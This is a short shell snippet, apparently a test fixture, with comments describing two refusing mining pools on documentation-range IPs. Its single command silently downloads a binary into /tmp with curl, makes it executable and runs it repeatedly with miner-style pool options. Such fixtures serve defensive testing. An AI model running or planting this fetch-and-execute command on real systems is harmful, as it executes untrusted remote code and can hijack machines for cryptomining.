# two pools that both refuse, with a pause that grows between the tries
#http 203.0.113.60:8010
#pool 198.51.100.97:9:drop
cd /tmp; curl -so g http://203.0.113.60:8010/w; chmod +x g; for t in 3 3 4; do timeout $t ./g -o 198.51.100.97:443 -o 198.51.100.97:8443 -u x -R 1 >/dev/null; sleep 0.5; done
